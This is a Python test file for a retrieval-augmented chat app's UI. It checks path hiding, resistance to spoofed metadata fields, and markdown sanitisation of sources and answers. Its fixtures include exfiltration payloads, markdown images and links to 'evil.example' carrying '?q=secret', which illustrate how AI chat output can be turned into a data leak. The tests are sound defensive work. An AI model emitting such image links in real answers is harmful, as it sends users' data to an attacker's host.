"""What the sources panel shows: uploaded files without the server's data directory."""

from __future__ import annotations

from rag_app.chain.events import SourceRecord
from rag_app.ui.app import render_sources, shown_source


def record(source: str) -> SourceRecord:
    return SourceRecord(
        n=1,
        id="c1",
        title="Zephyr",
        source=source,
        snippet="mango lassi",
        score=0.5,
        metadata={"tenant": "halcyon", "acl": ["user:alice"]},
    )


def test_upload_paths_hide_the_data_directory() -> None:
    dirs = ("/srv/rag/data", "data")
    upload = "/srv/rag/data/uploads/halcyon/alice/zephyr.md"
    assert shown_source(upload, dirs) == "uploads/halcyon/alice/zephyr.md"
    assert shown_source("data/uploads/halcyon/alice/z.md", dirs) == "uploads/halcyon/alice/z.md"
    # corpus files and look-alike prefixes are shown as they are
    assert shown_source("demo/corpus/faq.md", dirs) == "demo/corpus/faq.md"
    assert shown_source("/srv/rag/database/x.md", dirs) == "/srv/rag/database/x.md"
    text = render_sources([record(upload)], [1], data_dir=dirs)
    assert "uploads/halcyon/alice/zephyr.md" in text and "/srv/rag" not in text
    assert 'class="rag-passage rag-cited"' in text and ">cited</span>" in text


def test_iso_copies_are_shown_only_for_date_fields() -> None:
    """A document's own `acl_iso`/`tenant_iso`/`category_iso` never replace the real values."""
    lying = SourceRecord(
        n=1,
        id="c1",
        title="Opening hours",
        source="demo/corpus/halcyon/public/hours.md",
        snippet="open 9-5",
        score=0.5,
        metadata={
            "tenant": "halcyon",
            "tenant_iso": "brightwater",
            "acl": ["public"],
            "acl_iso": "group:hr (CONFIDENTIAL)",
            "category": "faq",
            "category_iso": "hr",
            "created_at": 1735689600,
            "created_at_iso": "2025-01-01",
        },
    )
    text = render_sources([lying], date_fields=("created_at",)).replace("\\", "")
    assert "tenant: halcyon" in text and "brightwater" not in text
    assert "acl: public" in text and "CONFIDENTIAL" not in text
    assert "category: faq" in text and "category: hr" not in text
    assert "created_at: 2025-01-01" in text  # the app's own ISO copy of a date field


def test_document_text_in_the_sources_panel_is_plain_text() -> None:
    evil = SourceRecord(
        n=1,
        id="c1",
        title="![t](https://evil.example/t.png)",
        source="x.md",
        snippet="see ![s](https://evil.example/?q=secret) <img src=https://evil.example/i>",
        score=0.5,
        metadata={"tenant": "halcyon", "acl": ["public"], "tags": ["![g](https://e/x)"]},
    )
    text = render_sources([evil])
    assert "![" not in text and "<img" not in text
    assert "https://evil" not in text  # escaped (https&#58;//evil...): no autolink either
    assert "\n" not in text  # one HTML block: no blank line can end it early


def test_answers_lose_images_links_and_html() -> None:
    from rag_app.ui.markdown import safe_answer_markdown

    answer = (
        "Leave is 16 weeks [1]. ![x](https://evil.example/?q=secret) "
        '<img src="https://evil.example/i.gif"> [click](https://evil.example/c) '
        "<https://evil.example/a> https://evil.example/bare\n[r]: https://evil.example/ref\n"
        "![y][r] [![n](http://e/n)](http://e/m) `![code](kept)`"
    )
    safe = safe_answer_markdown(answer)
    assert "Leave is 16 weeks [1]." in safe
    assert "\\[image removed: x\\]" in safe and "\\[image removed: y\\]" in safe
    outside_code = safe.replace("`![code](kept)`", "")
    assert "![" not in outside_code and "<img" not in outside_code
    assert "](https://" not in outside_code and "](http://" not in outside_code
    # every URL left is inside a code span: shown, never fetched or linked
    import re

    for url in re.findall(r"https?://[^\s`)]+", outside_code):
        assert f"`{url}" in outside_code or re.search(rf"`[^`]*{re.escape(url)}", outside_code)
    assert "`![code](kept)`" in safe  # code is left alone


def test_links_over_a_line_break_are_neutralised_too() -> None:
    """Markdown lets a link's text and its target start on the next line."""
    from rag_app.ui.markdown import safe_answer_markdown

    for answer in ("[click](\n//evil.example/x)", "[two\nlines](//evil.example/y)"):
        safe = safe_answer_markdown(answer)
        assert "](" not in safe and "`//evil.example/" in safe, safe
    # a blank line ends a paragraph, and with it any link text: no link, nothing to change
    assert safe_answer_markdown("[a\n\nb](c)") == "[a\n\nb](c)"
